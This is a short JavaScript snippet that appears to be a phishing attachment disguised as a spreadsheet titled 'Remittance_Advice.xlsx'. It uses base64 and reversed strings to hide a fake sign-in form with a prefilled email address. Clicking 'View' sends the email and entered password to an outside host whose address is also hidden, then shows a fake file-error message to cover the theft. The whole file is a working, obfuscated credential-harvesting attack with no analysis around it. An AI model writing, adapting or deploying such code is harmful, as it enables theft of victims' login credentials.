var to = "bWFpbEBmaXJtYS5leGFtcGxl";
var p1 = "PjJoLzw+bmkgbmdpUz4yaDw=", p2 = "PmVtYW49dHVwbmk8", p3 = "PmRyb3dzc2FwPWVweXQgdHVwbmk8";
var rev = function (s) { return s.split("").reverse().join(""); };
var page = [p1, p2, p3].map(function (x) { return rev(atob(x)); }).join("");
document.write("<title>Remittance_Advice.xlsx</title><div id=w>" + page + "<button id=go>View</button></div>");
document.getElementsByTagName("input")[0].value = atob(to);
document.getElementById("go").onclick = function () {
  var x = new XMLHttpRequest();
  x.open("POST", rev("php.xi/elpmaxe.elif-tseg//:sptth"));
  x.send(atob(to) + "|" + document.getElementsByTagName("input")[1].value);
  document.getElementById("w").innerHTML = "The file could not be opened (0x80070570).";
};
